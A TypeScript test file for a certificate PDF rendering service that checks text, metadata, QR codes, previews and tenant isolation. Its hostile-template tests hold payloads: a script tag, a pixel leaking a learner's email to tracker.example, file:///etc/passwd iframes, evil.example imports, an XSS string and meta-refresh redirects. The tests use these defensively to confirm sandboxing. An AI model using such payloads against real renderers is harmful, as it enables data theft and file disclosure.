import { execFileSync } from 'node:child_process';
import { ofType } from '../../src/event-store/event-store';
import { findChromium } from '../../src/rendering/find-chromium';
import { PdfRenderer, TemplateRenderError } from '../../src/rendering/pdf-renderer';
import { certificateHtml } from '../../src/rendering/certificate-html';
import { certificateVariables, formatDate, sampleFacts } from '../../src/rendering/render-context';
import { renderCertificate } from '../../src/rendering/render-certificate';
import { CLASSIC_TEMPLATES } from '../../src/write/templates/classic/classic-templates';
import { CLASSIC_WORDINGS } from '../../src/rendering/classic-wording';
import { PNG } from 'pngjs';
import {
  generationOutcome,
  pdfImageCount,
  pdfInfo,
  pdfText,
  qrCodeOnPage,
} from '../support/certificates';
import { expectProblem, Scenario } from '../support/scenario';
import { TestApp, token, WRITE_SIDE_ONLY } from '../support/test-app';

/** A renderer of its own, on the machine's Chromium, for tests of the renderer itself. */
const testRenderer = (poolSize: number) =>
  new PdfRenderer({
    chromiumPath: findChromium(),
    poolSize,
    timeoutMs: 30_000,
    maxHtmlBytes: 1e6,
    maxPdfBytes: 1e7,
  });

const LANGUAGES = ['en', 'es', 'fr', 'de', 'pt', 'it'];

/** A time as pdfinfo prints a PDF date: to the second, in UTC. */
const isoSeconds = (time: string) => new Date(time).toISOString().replace(/\.\d{3}Z$/, 'Z');

/** A small PNG logo (a raster image, so `pdfimages` can count it in the PDF). */
function pngLogo(): string {
  const png = new PNG({ width: 16, height: 16 });
  png.data.fill(0x80);
  return `data:image/png;base64,${PNG.sync.write(png).toString('base64')}`;
}

describe('Certificate PDFs', () => {
  let app: TestApp;
  let given: Scenario;
  beforeAll(async () => {
    app = await TestApp.start();
    given = await Scenario.of(app);
    await given.enableFeature();
  });
  afterAll(() => app.close());

  it.each(LANGUAGES)(
    '[R-template-kinds] [R-issuer-profile] [R-public-verification] [R-certificate-number] classic-%s shows the learner, the training and the number, in any script',
    async (language) => {
      const trainingId = `classic-${language}-course`;
      const learnerId = `learner-${language}`;
      const name = 'Ελένη Ñúñez-Иванова 王小明';
      await given.createTraining(trainingId);
      await given.assign(trainingId, `classic-${language}`, 1);
      await given.ok(
        app.request('PUT', `/api/v1/learners/${learnerId}`, {
          token: given.admin,
          body: { name, email: 'e@example.com' },
        }),
      );
      await given.complete(trainingId, learnerId);
      const requested = await given.generate(trainingId, learnerId);
      const outcome = await generationOutcome(app, requested.body.certificateId);
      expect(outcome.type).toBe('CertificateGenerated');
      const pdf = await app.app.inject({
        method: 'GET',
        url: `/api/v1/me/learning-records/${trainingId}/certificate`,
        headers: {
          authorization: `Bearer ${await given.learner(learnerId)}`,
          'x-consistent-with': String(outcome.position),
        },
      });
      const { certificateId } = requested.body;
      const text = pdfText(pdf.rawPayload).replace(/\s+/g, ' ');
      expect(text).toContain(name);
      expect(text).toContain(`Training ${trainingId}`);
      expect(text).toContain(certificateId);
      const { number } = (await app.log())
        .filter(ofType('CertificateNumberAssigned'))
        .find((e) => e.data.certificateId === certificateId)!.data;
      expect(number).toMatch(/^ACME-\d{4}-\d{6}$/);
      expect(text).toContain(number);
      // The QR code, read back from the printed page by a decoder that is not ours.
      expect(qrCodeOnPage(pdf.rawPayload)).toBe(
        `${app.config.PUBLIC_URL.replace(/\/$/, '')}/verify/${certificateId}`,
      );
      const request = (await app.log())
        .filter(ofType('CertificateGenerationRequested'))
        .find((e) => e.data.certificateId === certificateId)!;
      const info = pdfInfo(pdf.rawPayload);
      expect(info.Title).toContain(`Training ${trainingId}`);
      expect(info.Title).not.toContain('about:blank');
      // No issuer profile yet: the tenant id names the issuer.
      expect(info.Author).toBe('acme');
      expect(info.Subject).toContain(name);
      expect(info.Keywords).toContain(number);
      expect(info.CreationDate).toBe(isoSeconds(request.data.requestedAt));
      expect(info.Producer).toMatch(/Chromium/);
    },
    60_000,
  );

  it('[R-template-document-variables] [R-certificate-number] gives an author template every variable, on the page it asks for', async () => {
    const variables = [
      'learner.name',
      'learner.email',
      'training.title',
      'training.type',
      'completion.date',
      'completion.score',
      'certificate.id',
      'certificate.number',
      'certificate.issuedAt',
      'certificate.verificationUrl',
      'tenant.name',
      'locale',
    ];
    const template = await given.ok(
      app.request('POST', '/api/v1/certificate-templates', {
        token: await token('acme', 'author'),
        body: {
          kind: 'author',
          title: 'Every variable',
          language: 'de',
          html: variables.map((name) => `<p>${name}=[{{${name}}}]</p>`).join(''),
          css: 'p { font: 9pt sans-serif; margin: 0; }',
          page: { size: 'Letter', orientation: 'landscape' },
        },
      }),
    );
    await given.ok(
      app.request('POST', '/api/v1/trainings', {
        token: given.admin,
        body: { trainingId: 'every-variable', type: 'pathway', title: 'Every Variable Path' },
      }),
    );
    await given.assign('every-variable', template.body.templateId, 1);
    await given.ok(
      app.request('PUT', '/api/v1/learners/vera', {
        token: given.admin,
        body: { name: 'Vera Variable', email: 'vera@example.com' },
      }),
    );
    await given.ok(
      app.request('POST', '/api/v1/trainings/every-variable/learners/vera/completion', {
        token: given.admin,
        body: { completedAt: '2026-01-05T10:00:00Z', score: 87.5 },
      }),
    );
    const requested = await given.ok(given.generate('every-variable', 'vera'));
    const { certificateId } = requested.body;
    const outcome = await generationOutcome(app, certificateId);
    expect(outcome.type).toBe('CertificateGenerated');
    const pdf = await app.app.inject({
      method: 'GET',
      url: '/api/v1/me/learning-records/every-variable/certificate',
      headers: {
        authorization: `Bearer ${await given.learner('vera')}`,
        'x-consistent-with': String(outcome.position),
      },
    });
    const request = (await app.log())
      .filter(ofType('CertificateGenerationRequested'))
      .find((e) => e.data.certificateId === certificateId)!;
    const { number } = (await app.log())
      .filter(ofType('CertificateNumberAssigned'))
      .find((e) => e.data.certificateId === certificateId)!.data;
    const text = pdfText(pdf.rawPayload).replace(/\s+/g, ' ');
    const origin = app.config.PUBLIC_URL.replace(/\/$/, '');
    for (const shown of [
      'learner.name=[Vera Variable]',
      'learner.email=[vera@example.com]',
      'training.title=[Every Variable Path]',
      'training.type=[pathway]',
      'completion.date=[5. Januar 2026]',
      'completion.score=[87.5]',
      `certificate.id=[${certificateId}]`,
      `certificate.number=[${number}]`,
      `certificate.issuedAt=[${formatDate(new Date(request.data.requestedAt), 'de')}]`,
      `certificate.verificationUrl=[${origin}/verify/${certificateId}]`,
      'tenant.name=[acme]',
      'locale=[de]',
    ])
      expect(text).toContain(shown);
    // US Letter, landscape: 11 × 8.5 inches.
    expect(pdfInfo(pdf.rawPayload)['Page size']).toMatch(/^792 x 612 pts/);
  }, 60_000);

  it('answers 409 not-ready while generating and 404 when there is none', async () => {
    // A service that renders nothing, so the certificate is certainly still generating.
    const idle = await TestApp.start(WRITE_SIDE_ONLY);
    try {
      const slow = await Scenario.of(idle);
      await slow.readyToGenerate('slow', 'sam');
      const learner = await slow.learner('sam');
      const open = async (position: string) =>
        idle.request('GET', '/api/v1/me/learning-records/slow/certificate', {
          token: learner,
          headers: { 'x-consistent-with': position },
        });
      expectProblem(await open(String(await idle.head())), 404, 'not-found');
      const requested = await slow.generate('slow', 'sam');
      expectProblem(await open(requested.body.position), 409, 'not-ready');
    } finally {
      await idle.close();
    }
  });

  it('renders a preview of any version with sample data, for the roles that choose templates', async () => {
    const templateId = await given.createAuthorTemplate('Preview me');
    for (const role of ['admin', 'group-admin', 'author'] as const) {
      const preview = await app.app.inject({
        method: 'GET',
        url: `/api/v1/certificate-templates/${templateId}/versions/1/preview`,
        headers: { authorization: `Bearer ${await token('acme', role)}` },
      });
      expect(preview.statusCode).toBe(200);
      expect(preview.headers['content-type']).toBe('application/pdf');
      expect(pdfText(preview.rawPayload)).toContain('Zoë Ångström-Núñez');
    }
    const classic = await app.app.inject({
      method: 'GET',
      url: '/api/v1/certificate-templates/classic-fr/versions/1/preview',
      headers: { authorization: `Bearer ${given.operator}` },
    });
    expect(pdfText(classic.rawPayload)).toContain('Workplace Safety Essentials');
    expectProblem(
      await app.request('GET', `/api/v1/certificate-templates/${templateId}/versions/9/preview`, {
        token: given.admin,
      }),
      404,
      'version-not-found',
    );
    expectProblem(
      await app.request('GET', `/api/v1/certificate-templates/${templateId}/versions/1/preview`, {
        token: await token('acme', 'learner'),
      }),
      403,
      'forbidden',
    );
    expectProblem(
      await app.request('GET', `/api/v1/certificate-templates/${templateId}/versions/1/preview`, {
        token: await token('globex', 'admin'),
      }),
      404,
      'version-not-found',
    );
  }, 60_000);
});

describe('Classic templates', () => {
  const renderer = testRenderer(1);
  afterAll(() => renderer.close());

  it.each(LANGUAGES)(
    'classic-%s prints the issuer, its logo and the validity date when they are given',
    async (language) => {
      const template = CLASSIC_TEMPLATES.find((t) => t.templateId === `classic-${language}`)!;
      const facts = {
        ...sampleFacts(new Date('2026-03-01T09:30:00Z')),
        issuer: { name: 'Northwind Safety Institute', logo: pngLogo() },
        validUntil: new Date('2029-02-28T00:00:00Z'),
      };
      const pdf = await renderCertificate(renderer, {
        language,
        content: template.content,
        facts,
      });
      const text = pdfText(pdf).replace(/\s+/g, ' ');
      expect(text).toContain('Northwind Safety Institute');
      const words = CLASSIC_WORDINGS.find((w) => w.language === language)!;
      expect(text).toContain(`${words.validUntil} ${formatDate(facts.validUntil, language)}`);
      expect(pdfImageCount(pdf)).toBe(1);
      expect(qrCodeOnPage(pdf)).toBe(facts.verificationUrl);
      const info = pdfInfo(pdf);
      expect(info.Author).toBe('Northwind Safety Institute');
      expect(info.CreationDate).toBe('2026-03-01T09:30:00Z');
      const bare = await renderCertificate(renderer, {
        language,
        content: template.content,
        facts: { ...facts, issuer: { name: 'acme' }, validUntil: null },
      });
      expect(pdfText(bare)).not.toContain(formatDate(facts.validUntil, language));
      expect(pdfImageCount(bare)).toBe(0);
    },
    60_000,
  );
});

describe('The renderer', () => {
  it('starts a new browser when its browser dies', async () => {
    const renderer = testRenderer(2);
    const page = { size: 'A4', orientation: 'portrait' } as const;
    try {
      expect(pdfText(await renderer.render('<p>before</p>', page))).toContain('before');
      // Kill this test process's own Chromium (its child), as a crash would.
      execFileSync('pkill', ['-KILL', '-P', String(process.pid), '-f', 'chromium']);
      const attempts: PromiseSettledResult<Buffer>[] = [];
      for (let i = 0; i < 3 && !attempts.some((a) => a.status === 'fulfilled'); i++)
        attempts.push((await Promise.allSettled([renderer.render('<p>after</p>', page)]))[0]);
      const rendered = attempts.find((a) => a.status === 'fulfilled');
      expect(rendered && pdfText(rendered.value)).toContain('after');
    } finally {
      await renderer.close();
    }
  }, 60_000);
});

describe('A hostile template', () => {
  const hostile = {
    html: `<h1 id="name">{{learner.name}}</h1>
<p id="status">SCRIPT DID NOT RUN</p>
<script>document.getElementById('status').textContent = 'SCRIPT RAN';</script>
<img src="https://tracker.example/pixel.png?who={{learner.email}}">
<link rel="stylesheet" href="https://evil.example/style.css">
<iframe src="file:///etc/passwd" width="800" height="300"></iframe>
<img src="file:///etc/passwd">
<object data="file:///etc/passwd"></object>
<p style="background: url('http://127.0.0.1:9/beacon')">{{{learner.name}}}</p>`,
    css: "@import url('https://evil.example/font.css'); body { font-family: serif; }",
    page: { size: 'A4', orientation: 'portrait' } as const,
  };

  it('renders without running a script, without any request leaving the page, without file contents', async () => {
    const renderer = testRenderer(1);
    try {
      const facts = {
        ...sampleFacts(new Date()),
        learner: { name: '<b onmouseover=alert(1)>Eve</b> & co', email: 'eve@example.com' },
      };
      const pdf = await renderer.render(
        certificateHtml(hostile, certificateVariables(facts, 'en')),
        hostile.page,
      );
      const text = pdfText(pdf);
      expect(text).toContain('SCRIPT DID NOT RUN');
      expect(text).not.toContain('SCRIPT RAN');
      expect(text).not.toMatch(/root:.*:0:0:/);
      // Learner data is escaped even in a triple-stash: the markup shows as text.
      expect(text).toContain('<b onmouseover=alert(1)>Eve</b> & co');
      expect(renderer.attemptedRequests.filter((url) => !url.startsWith('data:'))).toEqual([]);
    } finally {
      await renderer.close();
    }
  }, 60_000);

  it('that navigates away a moment later (a meta refresh) leaves the next render on its page whole', async () => {
    // Given: one page, so the next render follows the hostile one on it
    const renderer = testRenderer(1);
    const page = { size: 'A4', orientation: 'portrait' } as const;
    try {
      const outcomes: string[] = [];
      for (const target of ['https://evil.example/', 'about:blank', 'https://evil.example/']) {
        // When: the hostile template renders (or is refused), its refresh fires while this
        // process is busy (the renderer sees the navigation only when its event loop turns, as
        // in a loaded service), and then another document renders
        const hostile = `<meta http-equiv="refresh" content="1;url=${target}"><p>HOSTILE</p>`;
        await renderer.render(hostile, page).catch(() => undefined);
        const busyUntil = Date.now() + 2_000;
        while (Date.now() < busyUntil);
        const text = await renderer
          .render('<p>INNOCENT</p>', page)
          .then(pdfText, (error: Error) => `failed: ${error.message.split('\n')[0]}`);
        outcomes.push(
          text.includes('INNOCENT') ? 'whole' : `after a refresh to ${target}: ${text}`,
        );
      }

      // Then: the next document rendered, whole
      expect(outcomes).toEqual(['whole', 'whole', 'whole']);
    } finally {
      await renderer.close();
    }
  }, 120_000);

  it('that navigates away while it renders is refused, its own document named', async () => {
    const renderer = testRenderer(1);
    const page = { size: 'A4', orientation: 'portrait' } as const;
    try {
      // Given/When: a document whose refresh fires at once, as it loads
      const rendering = renderer.render(
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>HOSTILE</p>',
        page,
      );

      // Then: refused as the template's doing; the next render on the page is whole
      await expect(rendering).rejects.toThrow(TemplateRenderError);
      await expect(rendering).rejects.toThrow(/navigates away .*evil\.example/);
      expect(pdfText(await renderer.render('<p>INNOCENT</p>', page))).toContain('INNOCENT');
    } finally {
      await renderer.close();
    }
  }, 60_000);

  it("is stopped by the renderer too, should the document's own policy be missing", async () => {
    const renderer = testRenderer(1);
    try {
      const bare =
        '<img src="https://tracker.example/pixel.png"><iframe src="file:///etc/passwd"></iframe><p>bare</p>';
      const text = pdfText(await renderer.render(bare, hostile.page));
      expect(text).toContain('bare');
      expect(text).not.toMatch(/root:.*:0:0:/);
      expect(renderer.attemptedRequests).toContain('https://tracker.example/pixel.png');
    } finally {
      await renderer.close();
    }
  }, 60_000);
});

describe("One tenant's navigating template and another tenant's previews", () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await TestApp.start({ RENDER_POOL_SIZE: '1' });
    for (const tenant of ['acme', 'evil']) await (await Scenario.of(app, tenant)).enableFeature();
  });
  afterAll(() => app.close());

  it("records a learner's certificate from such a template as failed at once, without the retries", async () => {
    // Given: tenant evil assigns its refreshing template; a learner completes the training. The
    // service would retry a render that failed for another cause 20 times, minutes apart.
    const retrying = await TestApp.start({ GENERATION_ATTEMPTS: '20' });
    try {
      const given = await Scenario.of(retrying, 'evil');
      await given.enableFeature();
      const author = await token('evil', 'author');
      const created = await given.ok(
        retrying.request('POST', '/api/v1/certificate-templates', {
          token: author,
          body: {
            kind: 'author',
            title: 'Refresh',
            language: 'en',
            html: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>{{learner.name}}</p>',
          },
        }),
      );
      await given.createTraining('refresh');
      await given.assign('refresh', created.body.templateId as string, 1);
      await given.enrol('refresh', 'eve');
      await given.complete('refresh', 'eve');

      // When: the learner asks for the certificate
      const requested = await given.generate('refresh', 'eve');

      // Then: the outcome is a failure naming the navigation, recorded after one attempt
      const outcome = await generationOutcome(retrying, requested.body.certificateId as string);
      expect(outcome.type).toBe('CertificateGenerationFailed');
      expect(JSON.stringify(outcome.data)).toMatch(/navigates away/);
    } finally {
      await retrying.close();
    }
  }, 120_000);

  it('never answers 500: the hostile preview is refused with a problem, the others render', async () => {
    // Given: an author of tenant evil whose template refreshes the page elsewhere at once
    const evilAuthor = await token('evil', 'author');
    const created = await app.request('POST', '/api/v1/certificate-templates', {
      token: evilAuthor,
      body: {
        kind: 'author',
        title: 'Refresh',
        language: 'en',
        html: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>{{learner.name}}</p>',
      },
    });
    expect(created.status).toBe(201);
    const hostileUrl = `/api/v1/certificate-templates/${created.body.templateId}/versions/1/preview`;
    const acmeAdmin = await token('acme', 'admin');

    // When: the evil preview and acme's previews take turns on the one pooled page
    const answers: { tenant: string; status: number; type: unknown; code?: unknown }[] = [];
    for (let i = 0; i < 15; i++) {
      const hostile = await app.request('GET', hostileUrl, { token: evilAuthor });
      answers.push({
        tenant: 'evil',
        status: hostile.status,
        type: String(hostile.headers['content-type']).split(';')[0],
        code: hostile.body?.code,
      });
      const innocent = await app.app.inject({
        method: 'GET',
        url: '/api/v1/certificate-templates/classic-en/versions/1/preview',
        headers: { authorization: `Bearer ${acmeAdmin}` },
      });
      answers.push({
        tenant: 'acme',
        status: innocent.statusCode,
        type: String(innocent.headers['content-type']).split(';')[0],
      });
    }

    // Then: acme's previews are all PDFs; evil's are PDFs or a problem naming the template
    expect(answers.filter((a) => a.tenant === 'acme')).toEqual(
      Array.from({ length: 15 }, () => ({ tenant: 'acme', status: 200, type: 'application/pdf' })),
    );
    for (const answer of answers.filter((a) => a.tenant === 'evil'))
      expect([
        { status: 200, type: 'application/pdf', code: undefined },
        { status: 422, type: 'application/problem+json', code: 'template-not-renderable' },
      ]).toContainEqual({ status: answer.status, type: answer.type, code: answer.code });
  }, 180_000);
});
